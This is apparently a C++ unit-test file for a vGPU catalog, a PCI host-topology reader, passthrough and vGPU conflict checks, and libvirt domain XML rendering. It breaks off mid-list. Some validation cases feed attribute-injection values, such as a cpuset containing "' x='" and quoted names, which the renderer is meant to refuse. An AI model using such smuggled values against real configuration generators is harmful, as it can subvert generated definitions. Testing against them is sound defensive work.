// vm.h: the vGPU catalog, the host topology as read from a fixture sysfs tree, the passthrough
// and vGPU checks, and the renderers. Every rendered domain is validated by libvirt's own
// schema (virt-xml-validate), for the kvm and the test driver.
#include "vm/vm.h"

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <sys/wait.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <functional>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "test_util.h"
#include "vm/host_fixture.h"
#include "vocab/vocab.h"

namespace gp::vm {
namespace {

namespace fs = std::filesystem;
using gp::testing::TempDir;
using testing::build_fixture_host;

// ---- the vGPU catalog ----

TEST(VgpuCatalog, H200TypesMirrorItsMigProfiles) {
  struct Expected {
    std::string name, profile;
    int framebuffer_gib, max_per_gpu;
  };
  const std::vector<Expected> expected = {
      {"H200-1-18C", "1g.18gb", 18, 7}, {"H200-1-35C", "1g.35gb", 35, 4},
      {"H200-2-35C", "2g.35gb", 35, 3}, {"H200-3-71C", "3g.71gb", 71, 2},
      {"H200-4-71C", "4g.71gb", 71, 1}, {"H200-7-141C", "7g.141gb", 141, 1},
  };
  for (const Expected& e : expected) {
    SCOPED_TRACE(e.name);
    auto type = find_vgpu_type(e.name);
    ASSERT_TRUE(type) << type.error().message;
    EXPECT_EQ((*type)->model, "H200-141GB");
    EXPECT_EQ((*type)->kind, VgpuKind::kMigBacked);
    EXPECT_EQ((*type)->mig_profile, e.profile);
    EXPECT_EQ((*type)->framebuffer_gib, e.framebuffer_gib);
    EXPECT_EQ((*type)->max_per_gpu, e.max_per_gpu);
    EXPECT_EQ((*type)->milli, 0);
  }
}

TEST(VgpuCatalog, TimeSlicedTypesAreTheWholeGpuAHalfAQuarterAndAnEighth) {
  struct Expected {
    std::string name;
    int milli, framebuffer_gib, max_per_gpu;
  };
  const std::vector<Expected> expected = {
      {"H200-141C", 1000, 141, 1},
      {"H200-70C", 500, 70, 2},
      {"H200-35C", 250, 35, 4},
      {"H200-17C", 125, 17, 8},
  };
  for (const Expected& e : expected) {
    SCOPED_TRACE(e.name);
    auto type = find_vgpu_type(e.name);
    ASSERT_TRUE(type) << type.error().message;
    EXPECT_EQ((*type)->kind, VgpuKind::kTimeSliced);
    EXPECT_EQ((*type)->milli, e.milli);
    EXPECT_EQ((*type)->framebuffer_gib, e.framebuffer_gib);
    EXPECT_EQ((*type)->max_per_gpu, e.max_per_gpu);
    EXPECT_EQ((*type)->mig_profile, "");
  }
}

TEST(VgpuCatalog, EveryProfileOfEveryModelIsSoldAsExactlyOneType) {
  for (const vocab::MigCatalog& catalog : vocab::mig_catalogs()) {
    SCOPED_TRACE(catalog.model);
    int mig = 0, sliced = 0;
    for (const VgpuType& type : vgpu_types()) {
      if (type.model != catalog.model) continue;
      (type.kind == VgpuKind::kMigBacked ? mig : sliced)++;
    }
    EXPECT_EQ(mig, static_cast<int>(catalog.profiles.size()));
    EXPECT_EQ(sliced, 4);
    for (const vocab::MigProfile& profile : catalog.profiles) {
      auto type = vgpu_for_mig(catalog.model, profile.name);
      ASSERT_TRUE(type) << type.error().message;
      EXPECT_EQ((*type)->mig_profile, profile.name);
      EXPECT_EQ((*type)->max_per_gpu, profile.max_instances);
    }
  }
}

TEST(VgpuCatalog, NamesAreUniqueAcrossModels) {
  std::set<std::string> names;
  for (const VgpuType& type : vgpu_types()) {
    EXPECT_TRUE(names.insert(type.name).second) << type.name << " is named twice";
    EXPECT_TRUE(type.name.ends_with("C")) << type.name;
  }
}

TEST(VgpuCatalog, ModelsSharingAShortNameKeepTheirFullNameInTypeNames) {
  // Both A100 models would otherwise make A100-1-10C and A100-40C.
  for (std::string_view name : {"A100-40GB-1-5C", "A100-40GB-7-40C", "A100-40GB-5C",
                                "A100-80GB-1-10C", "A100-80GB-7-80C", "A100-80GB-10C"}) {
    EXPECT_TRUE(find_vgpu_type(name)) << name;
  }
  for (std::string_view name : {"H100-1-10C", "H100-7-80C", "H100-80C", "H100-10C"}) {
    EXPECT_TRUE(find_vgpu_type(name)) << name;
  }
  EXPECT_FALSE(find_vgpu_type("A100-1-10C"));
}

TEST(VgpuCatalog, MigAllocationIsDeliveredAsItsProfilesType) {
  auto h200 = vgpu_for_mig("H200", "3g.71gb");
  ASSERT_TRUE(h200) << h200.error().message;
  EXPECT_EQ((*h200)->name, "H200-3-71C");
  auto a100 = vgpu_for_mig("NVIDIA A100-SXM4-80GB", "1g.10gb");
  ASSERT_TRUE(a100) << a100.error().message;
  EXPECT_EQ((*a100)->name, "A100-80GB-1-10C");

  auto profile = vgpu_for_mig("H200", "3g.40gb");
  ASSERT_FALSE(profile);
  EXPECT_EQ(profile.error().code, ErrorCode::kInvalidArgument);
  EXPECT_NE(profile.error().message.find("3g.71gb"), std::string::npos) << profile.error().message;
  auto model = vgpu_for_mig("T4", "1g.5gb");
  ASSERT_FALSE(model);
  EXPECT_EQ(model.error().code, ErrorCode::kNotFound);
  EXPECT_FALSE(vgpu_for_mig("A100", "1g.5gb"));  // which A100?
}

TEST(VgpuCatalog, ShareIsDeliveredAsTheTimeSlicedTypeOfThatShare) {
  auto quarter = vgpu_for_share("H200", 250);
  ASSERT_TRUE(quarter) << quarter.error().message;
  EXPECT_EQ((*quarter)->name, "H200-35C");
  auto whole = vgpu_for_share("H100-80GB", 1000);
  ASSERT_TRUE(whole) << whole.error().message;
  EXPECT_EQ((*whole)->name, "H100-80C");

  auto odd = vgpu_for_share("H200", 300);
  ASSERT_FALSE(odd);
  EXPECT_EQ(odd.error().code, ErrorCode::kInvalidArgument);
  EXPECT_NE(odd.error().message.find("125"), std::string::npos) << odd.error().message;
  EXPECT_EQ(vgpu_for_share("T4", 500).error().code, ErrorCode::kNotFound);
}

TEST(VgpuCatalog, UnknownTypeIsNotFoundAndNamesTheModelsTypes) {
  auto type = find_vgpu_type("H200-5C");
  ASSERT_FALSE(type);
  EXPECT_EQ(type.error().code, ErrorCode::kNotFound);
  EXPECT_NE(type.error().message.find("H200-3-71C"), std::string::npos) << type.error().message;
  EXPECT_EQ(type.error().message.find("A100"), std::string::npos) << type.error().message;

  auto a100 = find_vgpu_type("A100-80GB-3-71C");
  ASSERT_FALSE(a100);
  EXPECT_NE(a100.error().message.find("A100-80GB-3-40C"), std::string::npos)
      << a100.error().message;

  auto other = find_vgpu_type("T4-8C");
  ASSERT_FALSE(other);
  EXPECT_EQ(other.error().code, ErrorCode::kNotFound);
  EXPECT_NE(other.error().message.find("H200"), std::string::npos) << other.error().message;
}

class FixtureHost : public ::testing::Test {
 protected:
  void SetUp() override {
    build_fixture_host(dir_.path());
    auto host = read_host(dir_.path());
    ASSERT_TRUE(host) << host.error().message;
    host_ = std::move(*host);
  }

  TempDir dir_;
  HostTopology host_;
};

// ---- PCI addresses and the host ----

TEST(NormalizePciAddress, AcceptsSysfsNvmlAndLspciForms) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"0000:41:00.0", "0000:41:00.0"},     {"00000000:41:00.0", "0000:41:00.0"},
      {"41:00.0", "0000:41:00.0"},          {"0000:C1:1F.7", "0000:c1:1f.7"},
      {"00000001:0a:00.1", "0001:0a:00.1"}, {"10000:e1:00.0", "10000:e1:00.0"},
  };
  for (const auto& [in, out] : cases) {
    auto normalized = normalize_pci_address(in);
    ASSERT_TRUE(normalized) << in << ": " << normalized.error().message;
    EXPECT_EQ(*normalized, out) << in;
  }
}

TEST(NormalizePciAddress, RefusesAnythingElse) {
  for (std::string_view in : {"", "gpu0", "41:00", "0000:41:00", "0000:41:00.8", "0000:41:20.0",
                              "000:41:00.0", "0000:4:00.0", "0000:41:0.0", "0000:41:00.0 ",
                              "0000:41:00.0\n", "0000:4g:00.0", "000000000:41:00.0"}) {
    auto normalized = normalize_pci_address(in);
    ASSERT_FALSE(normalized) << "accepted \"" << in << "\"";
    EXPECT_EQ(normalized.error().code, ErrorCode::kInvalidArgument);
  }
}

TEST(PciDevice, GpusAreNvidiaDisplayClassAndBridgesClass0604) {
  PciDevice gpu{.vendor = 0x10de, .class_code = 0x030200};
  PciDevice vga{.vendor = 0x10de, .class_code = 0x030000};
  PciDevice other_vendor{.vendor = 0x1002, .class_code = 0x030200};
  PciDevice nvswitch{.vendor = 0x10de, .class_code = 0x068000};
  PciDevice bridge{.vendor = 0x1000, .class_code = 0x060400};
  EXPECT_TRUE(gpu.is_gpu());
  EXPECT_TRUE(vga.is_gpu());
  EXPECT_FALSE(other_vendor.is_gpu());
  EXPECT_FALSE(nvswitch.is_gpu());
  EXPECT_FALSE(nvswitch.is_bridge());
  EXPECT_TRUE(bridge.is_bridge());
  EXPECT_FALSE(gpu.is_bridge());
}

TEST_F(FixtureHost, ReadsEveryDeviceSortedByAddress) {
  std::vector<std::string> addresses;
  for (const PciDevice& device : host_.devices) addresses.push_back(device.address);
  EXPECT_EQ(addresses, (std::vector<std::string>{"0000:41:00.0", "0000:41:00.4", "0000:41:00.5",
                                                 "0000:42:00.0", "0000:42:00.1", "0000:60:00.0",
                                                 "0000:61:00.0", "0000:70:00.0", "0000:c1:00.0"}));
}

TEST_F(FixtureHost, ReadsAttributesAndLinks) {
  const PciDevice* gpu = host_.find("0000:41:00.0");
  ASSERT_NE(gpu, nullptr);
  EXPECT_EQ(gpu->vendor, 0x10de);
  EXPECT_EQ(gpu->device, 0x2335);
  EXPECT_EQ(gpu->class_code, 0x030200u);
  EXPECT_EQ(gpu->iommu_group, 10);
  EXPECT_EQ(gpu->numa_node, 0);
  EXPECT_EQ(gpu->driver, "nvidia");
  EXPECT_EQ(gpu->physfn, "");
  EXPECT_TRUE(gpu->mdev_types.empty());

  const PciDevice* vf = host_.find("0000:41:00.5");
  ASSERT_NE(vf, nullptr);
  EXPECT_EQ(vf->physfn, "0000:41:00.0");
  EXPECT_EQ(vf->iommu_group, 41);
  ASSERT_EQ(vf->mdev_types.size(), 3u);
  EXPECT_EQ(vf->mdev_types[0].id, "nvidia-1150");
  EXPECT_EQ(vf->mdev_types[0].name, "NVIDIA H200-3-71C");
  EXPECT_EQ(vf->mdev_types[0].available_instances, 1);
  EXPECT_EQ(vf->mdev_types[2].id, "nvidia-1155");
  EXPECT_EQ(vf->mdev_types[2].available_instances, 0);

  const PciDevice* nic = host_.find("0000:42:00.1");
  ASSERT_NE(nic, nullptr);
  EXPECT_EQ(nic->vendor, 0x15b3);
  EXPECT_EQ(nic->class_code, 0x020000u);
  EXPECT_EQ(nic->driver, "mlx5_core");
}

TEST_F(FixtureHost, MissingAttributesReadAsUnknown) {
  const PciDevice* bare = host_.find("0000:70:00.0");
  ASSERT_NE(bare, nullptr);
  EXPECT_EQ(bare->iommu_group, -1);
  EXPECT_EQ(bare->numa_node, -1);
  EXPECT_EQ(bare->driver, "");
  EXPECT_TRUE(bare->is_gpu());
}

TEST_F(FixtureHost, ReadsNumaNodesWithCpusAndMemory) {
  ASSERT_EQ(host_.numa_nodes.size(), 2u);
  EXPECT_EQ(host_.numa_nodes[0].id, 0);
  EXPECT_EQ(host_.numa_nodes[0].cpulist, "0-15,32-47");
  EXPECT_EQ(host_.numa_nodes[0].memory_mib, 128000);
  EXPECT_EQ(host_.numa_nodes[1].id, 1);
  EXPECT_EQ(host_.numa_nodes[1].cpulist, "16-31,48-63");
  EXPECT_EQ(host_.numa_nodes[1].memory_mib, 64000);
}

TEST_F(FixtureHost, FindTakesAnyAddressFormAndGroupListsItsMembers) {
  const PciDevice* gpu = host_.find("c1:00.0");
  ASSERT_NE(gpu, nullptr);
  EXPECT_EQ(gpu->address, "0000:c1:00.0");
  EXPECT_EQ(host_.find("00000000:C1:00.0"), gpu);
  EXPECT_EQ(host_.find("0000:99:00.0"), nullptr);
  EXPECT_EQ(host_.find("not an address"), nullptr);

  std::vector<std::string> group;
  for (const PciDevice* device : host_.group(12)) group.push_back(device->address);
  EXPECT_EQ(group, (std::vector<std::string>{"0000:42:00.0", "0000:42:00.1"}));
  EXPECT_TRUE(host_.group(-1).empty());  // devices without a group share none
  EXPECT_TRUE(host_.group(99).empty());
}

TEST(ReadHost, MissingRootIsNotFoundAndNamesIt) {
  TempDir dir;
  auto host = read_host(fs::path(dir.path()) / "nope");
  ASSERT_FALSE(host);
  EXPECT_EQ(host.error().code, ErrorCode::kNotFound);
  EXPECT_NE(host.error().message.find(dir.path() + "/nope"), std::string::npos)
      << host.error().message;
}

TEST(ReadHost, RootWithoutPciDevicesIsUnavailable) {
  TempDir dir;
  auto host = read_host(dir.path());
  ASSERT_FALSE(host);
  EXPECT_EQ(host.error().code, ErrorCode::kUnavailable);
  EXPECT_NE(host.error().message.find("bus/pci/devices"), std::string::npos)
      << host.error().message;
}

// ---- check_passthrough ----

TEST_F(FixtureHost, PassthroughOfGpusAloneInTheirGroupsIsAllowed) {
  EXPECT_TRUE(check_passthrough(host_, {"0000:41:00.0"}, {}, "gp-a"));
  auto both = check_passthrough(host_, {"00000000:41:00.0", "c1:00.0"}, {}, "gp-a");
  EXPECT_TRUE(both) << both.error().message;
}

TEST_F(FixtureHost, PassthroughIsRefusedWhenTheGroupHoldsAHostNic) {
  auto r = check_passthrough(host_, {"0000:42:00.0"}, {}, "gp-a");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kConflict);
  EXPECT_EQ(r.error().message,
            "GPU 0000:42:00.0 shares IOMMU group 12 with 0000:42:00.1 (network controller), "
            "which is not part of this allocation; passthrough would hand it to the guest");
}

TEST_F(FixtureHost, PassthroughLeavesABridgeInTheGroupWithTheHost) {
  auto r = check_passthrough(host_, {"0000:61:00.0"}, {}, "gp-a");
  EXPECT_TRUE(r) << r.error().message;
}

TEST_F(FixtureHost, PassthroughOfAnUnknownAddressIsNotFound) {
  auto r = check_passthrough(host_, {"0000:41:00.0", "0000:99:00.0"}, {}, "gp-a");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kNotFound);
  EXPECT_NE(r.error().message.find("0000:99:00.0"), std::string::npos) << r.error().message;

  auto malformed = check_passthrough(host_, {"gpu0"}, {}, "gp-a");
  ASSERT_FALSE(malformed);
  EXPECT_EQ(malformed.error().code, ErrorCode::kInvalidArgument);
}

TEST_F(FixtureHost, PassthroughOfSomethingOtherThanAGpuIsRefused) {
  auto r = check_passthrough(host_, {"0000:42:00.1"}, {}, "gp-a");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kInvalidArgument);
  EXPECT_NE(r.error().message.find("0000:42:00.1 is not an NVIDIA GPU"), std::string::npos)
      << r.error().message;
  EXPECT_NE(r.error().message.find("network controller"), std::string::npos) << r.error().message;
}

TEST_F(FixtureHost, PassthroughOfAGpuListedTwiceIsRefused) {
  auto r = check_passthrough(host_, {"0000:41:00.0", "41:00.0"}, {}, "gp-a");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kInvalidArgument);
  EXPECT_NE(r.error().message.find("0000:41:00.0 is listed twice"), std::string::npos)
      << r.error().message;
}

TEST_F(FixtureHost, PassthroughOfAGpuAnotherDomainHoldsIsAConflict) {
  const std::vector<Claim> claims = {{.domain = "gp-b", .address = "0000:41:00.0"}};
  auto r = check_passthrough(host_, {"0000:41:00.0"}, claims, "gp-a");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kConflict);
  EXPECT_EQ(r.error().message, "GPU 0000:41:00.0 is already passed through to domain gp-b");
  // The domain's own claim (a redefinition) is no conflict.
  EXPECT_TRUE(check_passthrough(host_, {"0000:41:00.0"}, claims, "gp-b"));
}

TEST_F(FixtureHost, PassthroughOfAGpuCarryingAnotherDomainsVgpuIsAConflict) {
  const std::vector<Claim> claims = {
      {.domain = "gp-b", .address = "0000:41:00.5", .mediated = true}};
  auto r = check_passthrough(host_, {"0000:41:00.0"}, claims, "gp-a");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kConflict);
  EXPECT_NE(r.error().message.find("vGPU of domain gp-b"), std::string::npos) << r.error().message;
  EXPECT_NE(r.error().message.find("0000:41:00.5"), std::string::npos) << r.error().message;
}

TEST_F(FixtureHost, PassthroughWithoutAnIommuGroupIsRefused) {
  auto r = check_passthrough(host_, {"0000:70:00.0"}, {}, "gp-a");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kConflict);
  EXPECT_NE(r.error().message.find("GPU 0000:70:00.0 has no IOMMU group"), std::string::npos)
      << r.error().message;
}

// ---- check_vgpu ----

const VgpuType& vgpu_type(std::string_view name) {
  auto type = find_vgpu_type(name);
  EXPECT_TRUE(type) << name;
  return **type;
}

TEST_F(FixtureHost, VgpuGoesOnTheFirstVirtualFunctionWithRoom) {
  auto mig = check_vgpu(host_, "0000:41:00.0", vgpu_type("H200-3-71C"), {});
  ASSERT_TRUE(mig) << mig.error().message;
  EXPECT_EQ(mig->parent, "0000:41:00.5");  // 41:00.4 has no 3-71C left
  EXPECT_EQ(mig->type_id, "nvidia-1150");

  auto small = check_vgpu(host_, "41:00.0", vgpu_type("H200-1-18C"), {});
  ASSERT_TRUE(small) << small.error().message;
  EXPECT_EQ(small->parent, "0000:41:00.4");
  EXPECT_EQ(small->type_id, "nvidia-1151");
}

TEST_F(FixtureHost, VgpuGoesOnTheGpuItselfWithoutSriov) {
  auto r = check_vgpu(host_, "0000:c1:00.0", vgpu_type("H200-35C"), {});
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->parent, "0000:c1:00.0");
  EXPECT_EQ(r->type_id, "nvidia-1162");
}

TEST_F(FixtureHost, VgpuOfATypeTheGpuDoesNotOfferIsRefusedNamingWhatItOffers) {
  auto r = check_vgpu(host_, "0000:41:00.0", vgpu_type("H200-2-35C"), {});
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kInvalidArgument);
  EXPECT_EQ(r.error().message,
            "GPU 0000:41:00.0 does not offer vGPU type H200-2-35C; it offers: H200-1-18C, "
            "H200-3-71C, H200-7-141C");

  auto none = check_vgpu(host_, "0000:61:00.0", vgpu_type("H200-2-35C"), {});
  ASSERT_FALSE(none);
  EXPECT_EQ(none.error().code, ErrorCode::kInvalidArgument);
  EXPECT_NE(none.error().message.find("offers no vGPU types"), std::string::npos)
      << none.error().message;
}

TEST_F(FixtureHost, VgpuIsExhaustedWhenNoDeviceHasRoom) {
  auto r = check_vgpu(host_, "0000:41:00.0", vgpu_type("H200-7-141C"), {});
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kConflict);
  EXPECT_NE(r.error().message.find("0000:41:00.0 has no H200-7-141C instance available"),
            std::string::npos)
      << r.error().message;
}

TEST_F(FixtureHost, VgpuOnAGpuPassedThroughWholeIsAConflict) {
  const std::vector<Claim> whole = {{.domain = "gp-b", .address = "0000:41:00.0"}};
  auto r = check_vgpu(host_, "0000:41:00.0", vgpu_type("H200-3-71C"), whole);
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kConflict);
  EXPECT_NE(r.error().message.find("passed through whole to domain gp-b"), std::string::npos)
      << r.error().message;

  // Other vGPUs on it are no obstacle: the driver's available_instances already counts them.
  const std::vector<Claim> mediated = {
      {.domain = "gp-b", .address = "0000:41:00.4", .mediated = true}};
  EXPECT_TRUE(check_vgpu(host_, "0000:41:00.0", vgpu_type("H200-3-71C"), mediated));
}

TEST_F(FixtureHost, VgpuOnAnUnknownDeviceOrANonGpuIsRefused) {
  auto unknown = check_vgpu(host_, "0000:99:00.0", vgpu_type("H200-3-71C"), {});
  ASSERT_FALSE(unknown);
  EXPECT_EQ(unknown.error().code, ErrorCode::kNotFound);
  auto nic = check_vgpu(host_, "0000:42:00.1", vgpu_type("H200-3-71C"), {});
  ASSERT_FALSE(nic);
  EXPECT_EQ(nic.error().code, ErrorCode::kInvalidArgument);
}

// ---- render_domain_xml ----

DomainSpec passthrough_spec() {
  DomainSpec spec;
  spec.name = "gp-alloc-7";
  spec.uuid = "6f1c2a9e-3b7d-4c58-9a0e-2d4f6b8c1e3a";
  spec.tenant = "acme";
  spec.project = "nlp";
  spec.allocation = "alloc-7";
  spec.vcpus = 16;
  spec.memory_mib = 65536;
  spec.hostdevs = {"0000:41:00.0", "c1:00.0"};
  spec.disks = {{.path = "/var/lib/gpuplane/vms/gp-alloc-7/root.img", .target = "vda"}};
  return spec;
}

DomainSpec vgpu_spec() {
  DomainSpec spec;
  spec.name = "gp-alloc-8";
  spec.uuid = "0e7d5c3b-1a2f-4e6d-8c9b-7a5f3e1d2c4b";
  spec.tenant = "acme";
  spec.project = "vision";
  spec.allocation = "alloc-8";
  spec.vcpus = 8;
  spec.memory_mib = 32768;
  spec.numa_node = 1;
  spec.cpuset = "16-31,48-63";
  spec.mdevs = {{"9b2f4d6e-8a1c-4e3b-b5d7-f9a1c3e5b7d9"}, {"1c3e5a7b-9d2f-4b6a-8e1c-3a5b7d9f1e2c"}};
  spec.bridge = "gpbr-10042";
  spec.mac = "52:54:00:3a:7f:01";
  spec.disks = {{.path = "/dev/zvol/tank/gp-alloc-8", .target = "vda"},
                {.path = "/var/lib/gpuplane/images/base.img", .target = "vdb", .read_only = true}};
  spec.shares = {{.source = "/srv/gpuplane/volumes/acme/datasets", .tag = "datasets"},
                 {.source = "/srv/gpuplane/volumes/acme/home", .tag = "home"}};
  spec.seed_iso = "/var/lib/gpuplane/vms/gp-alloc-8/seed.iso";
  spec.console_log = "/var/lib/gpuplane/vms/gp-alloc-8/console.log";
  spec.security_model = "apparmor";
  return spec;
}

struct Validation {
  int exit_code = -1;
  std::string output;
};

// Runs libvirt's schema validator on `xml`, as an operator would.
Validation validate_domain_xml(const std::string& xml) {
  TempDir dir;
  const std::string file = dir.file("domain.xml");
  std::ofstream(file) << xml;
  Validation v;
  const std::string command = fmt::format("'{}' '{}' domain 2>&1", GP_VIRT_XML_VALIDATE, file);
  FILE* pipe = ::popen(command.c_str(), "r");
  if (pipe == nullptr) return v;
  char buffer[4096];
  std::size_t n;
  while ((n = std::fread(buffer, 1, sizeof buffer, pipe)) > 0) v.output.append(buffer, n);
  const int status = ::pclose(pipe);
  v.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  return v;
}

#define EXPECT_VALID_DOMAIN(xml)                                                        \
  do {                                                                                  \
    const Validation v_ = validate_domain_xml(xml);                                     \
    EXPECT_EQ(v_.exit_code, 0) << "virt-xml-validate:\n" << v_.output << "\n" << (xml); \
  } while (0)

// The harness itself: a domain libvirt would refuse fails validation, with the tool's reason.
TEST(RenderDomainXml, TheValidatorRefusesWhatLibvirtWould) {
  const Validation v = validate_domain_xml("<domain type='kvm'><name>a</name><bogus/></domain>\n");
  EXPECT_NE(v.exit_code, 0) << v.output;
  EXPECT_NE(v.output.find("bogus"), std::string::npos) << v.output;
}

TEST(RenderDomainXml, PassthroughDomainIsExactlyThisAndValidates) {
  auto xml = render_domain_xml(passthrough_spec());
  ASSERT_TRUE(xml) << xml.error().message;
  EXPECT_EQ(*xml, R"(<domain type='kvm'>
  <name>gp-alloc-7</name>
  <uuid>6f1c2a9e-3b7d-4c58-9a0e-2d4f6b8c1e3a</uuid>
  <metadata>
    <gp:allocation xmlns:gp='https://gpuplane.dev/xmlns/domain/1' tenant='acme' project='nlp' id='alloc-7'/>
  </metadata>
  <memory unit='MiB'>65536</memory>
  <vcpu placement='static'>16</vcpu>
  <os>
    <type arch='x86_64'>hvm</type>
    <boot dev='hd'/>
  </os>
  <features>
    <acpi/>
    <apic/>
  </features>
  <cpu mode='host-passthrough'/>
  <on_poweroff>destroy</on_poweroff>
  <on_reboot>restart</on_reboot>
  <on_crash>destroy</on_crash>
  <devices>
    <disk type='file' device='disk'>
      <driver name='qemu' type='raw'/>
      <source file='/var/lib/gpuplane/vms/gp-alloc-7/root.img'/>
      <target dev='vda' bus='virtio'/>
    </disk>
    <hostdev mode='subsystem' type='pci' managed='yes'>
      <source>
        <address domain='0x0000' bus='0x41' slot='0x00' function='0x0'/>
      </source>
    </hostdev>
    <hostdev mode='subsystem' type='pci' managed='yes'>
      <source>
        <address domain='0x0000' bus='0xc1' slot='0x00' function='0x0'/>
      </source>
    </hostdev>
    <serial type='pty'/>
    <console type='pty'/>
  </devices>
</domain>
)");
  EXPECT_VALID_DOMAIN(*xml);
}

TEST(RenderDomainXml, UefiFirmwareIsLibvirtsChoiceAndValidates) {
  DomainSpec spec = passthrough_spec();
  spec.firmware = "efi";
  auto xml = render_domain_xml(spec);
  ASSERT_TRUE(xml) << xml.error().message;
  EXPECT_NE(xml->find("  <os firmware='efi'>\n    <type arch='x86_64'>hvm</type>"),
            std::string::npos)
      << *xml;
  EXPECT_VALID_DOMAIN(*xml);
  spec.firmware = "bios";
  EXPECT_NE(render_domain_xml(spec)->find("  <os>\n"), std::string::npos);
}

TEST(RenderDomainXml, VgpuDomainWithSharesDisksSeedBridgeAndPinningValidates) {
  auto xml = render_domain_xml(vgpu_spec());
  ASSERT_TRUE(xml) << xml.error().message;
  for (std::string_view part : {
           "<vcpu placement='static' cpuset='16-31,48-63'>8</vcpu>",
           "<numatune>\n    <memory mode='strict' nodeset='1'/>\n  </numatune>",
           "<memoryBacking>\n    <source type='memfd'/>\n    <access mode='shared'/>\n",
           "<disk type='block' device='disk'>\n      <driver name='qemu' type='raw'/>\n"
           "      <source dev='/dev/zvol/tank/gp-alloc-8'/>",
           "<target dev='vdb' bus='virtio'/>\n      <readonly/>",
           "<disk type='file' device='cdrom'>",
           "<source file='/var/lib/gpuplane/vms/gp-alloc-8/seed.iso'/>\n"
           "      <target dev='sda' bus='sata'/>\n      <readonly/>",
           "<driver type='virtiofs'/>\n      <source dir='/srv/gpuplane/volumes/acme/datasets'/>\n"
           "      <target dir='datasets'/>",
           "<serial type='pty'>\n      <log file='/var/lib/gpuplane/vms/gp-alloc-8/console.log' "
           "append='on'/>\n    </serial>",
           "<interface type='bridge'>\n      <mac address='52:54:00:3a:7f:01'/>\n"
           "      <source bridge='gpbr-10042'/>\n      <model type='virtio'/>",
           "<hostdev mode='subsystem' type='mdev' model='vfio-pci' managed='no'>\n      <source>\n"
           "        <address uuid='9b2f4d6e-8a1c-4e3b-b5d7-f9a1c3e5b7d9'/>",
           "<seclabel type='dynamic' model='apparmor' relabel='yes'/>",
       }) {
    EXPECT_NE(xml->find(part), std::string::npos) << "missing:\n" << part << "\nin:\n" << *xml;
  }
  EXPECT_EQ(xml->find("type='pci'"), std::string::npos);
  EXPECT_VALID_DOMAIN(*xml);
}

TEST(RenderDomainXml, DomainsForLibvirtsTestDriverValidateToo) {
  for (DomainSpec spec : {passthrough_spec(), vgpu_spec()}) {
    spec.hypervisor = "test";
    auto xml = render_domain_xml(spec);
    ASSERT_TRUE(xml) << xml.error().message;
    EXPECT_TRUE(xml->starts_with("<domain type='test'>\n")) << *xml;
    EXPECT_VALID_DOMAIN(*xml);
  }
}

TEST(RenderDomainXml, WithoutSharesOrSecurityModelThereIsNoSharedMemoryOrLabel) {
  auto xml = render_domain_xml(passthrough_spec());
  ASSERT_TRUE(xml) << xml.error().message;
  EXPECT_EQ(xml->find("memoryBacking"), std::string::npos);
  EXPECT_EQ(xml->find("seclabel"), std::string::npos);
  EXPECT_EQ(xml->find("numatune"), std::string::npos);
  EXPECT_EQ(xml->find("<interface"), std::string::npos);
}

TEST(RenderDomainXml, RefusesEveryInvalidField) {
  struct Case {
    std::string what;
    std::function<void(DomainSpec&)> spoil;
  };
  const std::vector<Case> cases = {
      {"no name", [](DomainSpec& s) { s.name = ""; }},
      {"name with a space", [](DomainSpec& s) { s.name = "gp alloc"; }},
      {"name with a quote", [](DomainSpec& s) { s.name = "gp'a"; }},
      {"name of 65 characters", [](DomainSpec& s) { s.name = std::string(65, 'a'); }},
      {"no uuid", [](DomainSpec& s) { s.uuid = ""; }},
      {"uuid without dashes", [](DomainSpec& s) { s.uuid = "6f1c2a9e3b7d4c589a0e2d4f6b8c1e3a"; }},
      {"uuid with a non-hex digit",
       [](DomainSpec& s) { s.uuid = "6f1c2a9e-3b7d-4c58-9a0e-2d4f6b8c1e3g"; }},
      {"unknown domain type", [](DomainSpec& s) { s.hypervisor = "xen'"; }},
      {"zero vcpus", [](DomainSpec& s) { s.vcpus = 0; }},
      {"1025 vcpus", [](DomainSpec& s) { s.vcpus = 1025; }},
      {"zero memory", [](DomainSpec& s) { s.memory_mib = 0; }},
      {"negative memory", [](DomainSpec& s) { s.memory_mib = -1; }},
      {"NUMA node without cpuset", [](DomainSpec& s) { s.numa_node = 0; }},
      {"cpuset with other characters",
       [](DomainSpec& s) {
         s.numa_node = 0;
         s.cpuset = "0-3' x='";
       }},
      {"cpuset with an empty range",
       [](DomainSpec& s) {
         s.numa_node = 0;
         s.cpuset = "0-3,,5";
       }},
      {"cpuset without NUMA node", [](DomainSpec& s) { s.cpuset = "0-3"; }},
      {"malformed PCI address", [](DomainSpec& s) { s.hostdevs = {"41:00"}; }},
      {"PCI address twice",
       [](DomainSpec& s) {
         s.hostdevs = {"0000:41:00.0", "41:00.0"};
       }},
      {"malformed mdev uuid", [](DomainSpec& s) { s.mdevs = {{"not-a-uuid"}}; }},
      {"short MAC",
       [](DomainSpec& s) {
         s.bridge = "gpbr-1";
         s.mac = "52:54:00:3a:7f";
       }},
      {"MAC with a non-hex pair",
       [](DomainSpec& s) {
         s.bridge = "gpbr-1";
         s.mac = "52:54:00:3a:7f:zz";
       }},
      {"MAC without a bridge", [](DomainSpec& s) { s.mac = "52:54:00:3a:7f:01"; }},
      {"bridge name too long", [](DomainSpec& s) { s.bridge = "gpbr-1234567890ab"; }},
      {"bridge name with a slash", [](DomainSpec& s) { s.bridge = "br/0"; }},
      {"relative disk path", [](DomainSpec& s) { s.disks[0].path = "root.img"; }},
